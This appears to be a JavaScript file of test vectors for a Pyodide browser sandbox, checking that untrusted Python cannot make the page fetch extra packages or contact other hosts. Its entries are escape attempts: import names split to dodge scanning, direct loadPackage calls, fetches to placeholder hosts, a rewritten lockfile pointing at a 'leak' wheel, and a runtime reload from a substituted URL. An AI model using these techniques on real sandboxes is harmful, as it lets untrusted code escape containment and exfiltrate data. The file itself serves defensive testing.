// The page fetches packages for a program before it runs. Nothing that a program does may make it fetch more, or elsewhere.
import { attempt, tries } from "../vector.mjs";

const SILENT = /** @type {const} */ ({ none: "the proof is the list of requests, which the witness keeps" });

/** @type {[name: string, program: string, control?: import("../vector.mjs").Control][]} */
const TRIED = [
  ["import-at-run-time", attempt('importlib.import_module("sci" + "py").__version__', "import importlib")],
  [
    "import-many",
    tries(
      'import importlib\nfor name in ("sym" + "py", "net" + "workx", "pl" + "otly", "alt" + "air", "bs" + "4"):\n    await attempt(lambda: importlib.import_module(name))',
    ),
  ],
  ["load-package-by-name", attempt('pyodide_js.loadPackage("num" + "py")', "import pyodide_js")],
  [
    "load-packages-from-imports",
    attempt('pyodide_js.loadPackagesFromImports("import sci" + "py")', "import pyodide_js"),
  ],
  [
    "home-of-the-runtime",
    attempt('own("fetch").call(js.self, "https://pyodide.invalid/@TOKEN@")'),
    { page: 'fetch("http://@HOST@/pyodide.invalid", {mode: "no-cors"}).catch(() => {})' },
  ],
  ["home-of-the-runtime-by-pyodide", attempt('js.fetch("https://pyodide.invalid/python_stdlib.zip?@TOKEN@")'), SILENT],
  [
    "lock-file",
    tries(
      'import pyodide_js\npyodide_js._api.lockfile_packages = opts(leak=opts(name="leak", file_name="@URL@/leak.whl", depends=[], imports=["leak"], install_dir="site", package_type="package", version="1", sha256=""))\nawait attempt(lambda: pyodide_js.loadPackage("leak"))',
    ),
    SILENT,
  ],
  [
    "ask-the-page-for-files",
    tries(
      'await attempt(lambda: js.self.postMessage(opts(type="open", id=1)))\nawait attempt(lambda: js.self.postMessage(opts(type="boot", url="@URL@")))',
    ),
    SILENT,
  ],
  ["reload-the-runtime", attempt('js.loadPyodide(opts(indexURL="@URL@/"))'), SILENT],
  ["reload-the-module", attempt('js.createPyodideModule(opts(locateFile=create_proxy(lambda *a: "@URL@")))'), SILENT],
  [
    "names-in-comments",
    tries(
      'print("tried @TOKEN@")\n# import http://127.0.0.1:@PORT@/hit/@TOKEN@\n# import ../../api\n# scipy.stats plotly altair read_excel(".xlsx")',
    ),
    SILENT,
  ],
];

/** @type {import("../vector.mjs").Vector[]} */
export const runtime = TRIED.map(([name, program, control]) => ({
  id: `runtime/${name}`,
  program,
  control: control ?? SILENT,
}));
